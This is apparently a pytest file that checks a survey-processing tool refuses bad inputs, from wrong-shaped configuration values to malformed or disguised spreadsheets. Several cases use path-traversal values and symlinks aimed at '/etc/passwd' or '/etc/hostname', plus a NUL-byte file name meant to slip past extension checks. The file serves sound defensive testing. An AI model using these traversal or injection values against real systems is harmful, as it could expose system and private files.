OLE_XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "Workbook".encode("utf-16-le") + b"\x00" * 64
FRAMES_DIR_LINK = "frames_elsewhere"

# id -> (setup, command, fragments the one line must hold)
CATALOGUE: dict[str, tuple[Callable[[Path], None], str, tuple[str, ...]]] = {
    # 5. paths
    "frames_dotdot": (_set("frames.communes", "../../../../etc/passwd"), "check",
                      ("[frames.communes]", "outside the survey folder")),
    "frames_absolute": (_set("frames.households", "/etc/hostname"), "check", ("[frames.households]", "/etc/hostname")),
    "frames_symlinked_folder": (_linked_folder, "check", ("[frames.villages]", "/etc/passwd",
                                                         "outside the survey folder")),
    "frames_symlink_loop": (_link("frames/loop.csv", "loop.csv", "frames.communes"), "check",
                            ("[frames.communes]",)),
    "frames_nul_byte": (_set("frames.communes", "frames/communes.csv\x00.txt"), "check",
                        ("[frames.communes]", "NUL")),
    "frames_not_a_path": (_set("frames.communes", 42), "check", ("[frames.communes]", "must be a file path")),
    "frames_nested_list": (_set("frames.communes", ["a.csv", "b.csv"]), "check", ("[frames.communes]",)),
    "responses_sibling_survey": (_set("responses", ["../demo-laichau-2023/responses/forms.csv"]), "check",
                                 ("[responses[0]]", "outside the survey folder")),
    "responses_nested_list": (_set("responses", [["responses/forms.csv"]]), "check",
                              ("[responses[0]]", "must be a file path")),
    "sample_file_absolute": (_set("sampling.sample_file", "/etc/hostname"), "check",
                             ("[sampling.sample_file]", "outside the survey folder")),
    "salt_file_outside": (_set("restricted.salt_file", "../../../salt.txt"), "clean",
                          ("[restricted.salt_file]", "outside the survey folder")),
    "contacts_symlink_out": (_link("restricted/contacts_link.csv", "/etc/passwd", "restricted.contacts"), "sample",
                             ("[restricted.contacts]", "/etc/passwd")),
    "recheck_dotdot": (_set("fieldwork.recheck", "../../../../../../tmp/recheck.csv"), "clean",
                       ("[fieldwork.recheck]", "outside the survey folder")),
    "truth_absolute": (_set("truth", "/dev/null"), "check", ("[truth]", "outside the survey folder")),
    "distribution_log_missing": (_set("fieldwork.distribution_log", "fieldwork/nope.csv"), "check",
                                 ("[fieldwork.distribution_log]", "file not found")),
    "previous_survey_dotdot": (_set("previous_survey", "../../etc"), "check", ("[previous_survey]",)),
    # 7. configuration values of the wrong shape
    "nonresponse_cells_string": (_set("weighting.nonresponse_cells", "district"), "check",
                                 ("[weighting.nonresponse_cells]",)),
    "nonresponse_cells_mapping": (_set("weighting.nonresponse_cells", [{"district": 1}]), "check",
                                  ("[weighting.nonresponse_cells]",)),
    "nonresponse_cells_unknown_column": (_set("weighting.nonresponse_cells", ["ward"]), "weight",
                                         ("[weighting.nonresponse_cells]", "got ['ward']")),
    "rake_nested": (_set("weighting.rake", [["district"]]), "check", ("[weighting.rake]",)),
    "weighting_not_mapping": (_set("weighting", "yes"), "check", ("[weighting]", "must be a mapping")),
    "fieldwork_not_mapping": (_set("fieldwork", ["a", "b"]), "check", ("[fieldwork]", "must be a mapping")),
    "recheck_items_nested": (_set("fieldwork.recheck_items", [["p1_5"]]), "clean", ("[fieldwork.recheck_items]",)),
    # 7. sample list
    "sample_no_household_id": (_sample_edit(lambda rows: [r[1:] for r in rows]), "weight",
                               ("households_selected.csv", "row 1", "column 'household_id'")),
    "sample_no_commune": (_sample_edit(lambda rows: [r[:2] + r[3:] for r in rows]), "weight",
                          ("households_selected.csv", "row 1", "column 'commune'")),
    "sample_pi_zero": (_sample_cell("pi", "0", row=7), "weight",
                       ("households_selected.csv", "row 8", "column 'pi'", "(0, 1]: '0'")),
    "sample_pi_text": (_sample_cell("pi", "một phần ba", row=3), "weight", ("row 4", "column 'pi'")),
    "sample_pi_above_one": (_sample_cell("pi", "1.5", row=2), "weight", ("row 3", "column 'pi'")),
    "sample_pi_blank": (_sample_cell("pi", "", row=4), "weight", ("households_selected.csv", "row 5", "column 'pi'",
                                                                 "blank")),
    "sample_blank_household_id": (_sample_cell("household_id", "", row=5), "clean",
                                  ("households_selected.csv", "row 6", "column 'household_id'")),
    "sample_utf16": (_replace_file("sample/households_selected.csv",
                                   lambda p: p.read_text(encoding="utf-8").encode("utf-16")), "weight",
                     ("households_selected.csv", "not UTF-8")),
    "sample_encrypted": (_replace_file("sample/households_selected.csv",
                                       lambda p: (HOSTILE / "password_protected.xlsx").read_bytes()), "clean",
                         ("households_selected.csv", "encrypted (password-protected)")),
    "sample_old_xls": (_replace_file("sample/households_selected.csv", OLE_XLS), "clean",
                       ("households_selected.csv", "old Excel .xls")),
    "sample_empty": (_replace_file("sample/households_selected.csv", b""), "clean",
                     ("households_selected.csv", "file is empty")),
    "sample_wide": (_replace_file("sample/households_selected.csv",
                                  lambda p: b"household_id" + b",c" * 200_000 + b"\n"), "clean",
                    ("households_selected.csv", "row 1", "200001 columns")),
    "sample_is_a_folder": (lambda root: _set("sampling.sample_file", "sample")(root), "check",
                           ("[sampling.sample_file]", "file not found")),
    # 7. response files
    "responses_xlsx_under_csv_name": (_replace_file("responses/forms.csv", _xlsx_bytes_of), "clean",
                                      ("forms.csv", "Excel workbook (.xlsx), not CSV text")),
    "responses_old_xls_under_xlsx_name": (_responses_file("forms.xlsx", lambda p: p.write_bytes(OLE_XLS)), "clean",
                                          ("forms.xlsx", "old Excel .xls workbook under an .xlsx name")),
    "responses_row_250000_cells": (_responses_file("long_row.csv", _row_too_long), "clean",
                                   ("long_row.csv", "row 3", "more than the limit of 2000")),
    "responses_xlsx_2100_columns": (_responses_file("wide.xlsx", _wide_xlsx), "clean",
                                    ("wide.xlsx", "2154 columns")),
    "responses_utf16_5000_columns": (_responses_file("wide16.txt", _utf16_wide), "clean",
                                     ("wide16.txt", "row 1", "5000 columns")),
    "responses_two_sheets": (_responses_file("two.xlsx", _forms_sheets([("A", "visible"), ("B", "visible")])),
                             "clean", ("two.xlsx", "2 sheets hold forms")),
    "responses_only_hidden_sheet": (_responses_file("hidden.xlsx", _forms_sheets([("Cu", "hidden")], notes="Ghi chu")), "clean",
                                    ("hidden.xlsx", "is hidden")),
    "responses_entry_sheet_hidden": (_responses_file("entry.xlsx", _forms_sheets([("Nhap_phieu", "hidden"),
                                                                                  ("Forms2", "visible")])),
                                     "clean", ("entry.xlsx", "the entry sheet 'Nhap_phieu' is hidden")),
    # 7. fieldwork files
    "distribution_log_no_returned": (_replace_file("fieldwork/distribution.csv", lambda p: "\n".join(
        ",".join(r[:6]) for r in csv_rows(p)).encode("utf-8")), "clean",
        ("distribution.csv", "row 1", "column 'returned'")),
    "recheck_no_form_id": (_replace_file("fieldwork/recheck.csv", lambda p: "\n".join(
        ",".join(r[1:]) for r in csv_rows(p)).encode("utf-8")), "clean", ("recheck.csv", "row 1", "column 'form_id'")),
    "double_entry_xlsx_under_csv_name": (_replace_file("responses/forms_second_entry.csv", _xlsx_bytes_of), "clean",
                                         ("forms_second_entry.csv", "Excel workbook (.xlsx), not CSV text")),
    # 7. frames
    "frame_xlsx_under_csv_name": (_replace_file("frames/communes.csv", _xlsx_bytes_of), "check",
                                  ("communes.csv", "Excel workbook (.xlsx), not CSV text")),
    "frame_wide": (_replace_file("frames/villages.csv", lambda p: b"district" + b",x" * 200_000 + b"\n"), "check",
                   ("villages.csv", "row 1", "200001 columns")),
    "frame_encrypted_xlsx": (lambda root: (shutil.copy2(HOSTILE / "password_protected.xlsx",
                                                        raw_dir(root) / "frames" / "villages.xlsx"),
                                           _set("frames.villages", "frames/villages.xlsx")(root)), "check",
                             ("villages.xlsx", "encrypted (password-protected)")),
    # 7. outputs
    "restricted_folder_is_a_file": (_restricted_is_a_file, "clean", (f"cannot write {{root}}/restricted/{DEMO}",
                                                                     "not a folder")),
    "processed_folder_is_a_file": (_processed_is_a_file, "clean", (f"cannot write {{root}}/data/processed/{DEMO}",
                                                                   "not a folder")),
}


@pytest.mark.parametrize("case", sorted(CATALOGUE))
def test_catalogue(project, case):
    setup, command, fragments = CATALOGUE[case]
    setup(project)
    refused(project, [command, "--survey", DEMO], *(f.replace("{root}", str(project)) for f in fragments))


def test_catalogue_size():
    assert len(CATALOGUE) >= 30
